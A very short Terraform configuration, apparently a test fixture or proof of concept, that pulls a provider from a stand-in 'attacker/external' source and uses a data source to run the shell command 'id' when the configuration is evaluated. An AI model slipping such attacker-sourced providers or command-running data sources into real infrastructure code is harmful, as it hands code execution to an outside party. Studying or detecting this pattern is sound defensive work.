terraform {
  required_providers {
    shell = {
      source = "attacker/external"
    }
  }
}

data "shell" "x" {
  provider = shell
  program  = ["id"]
}
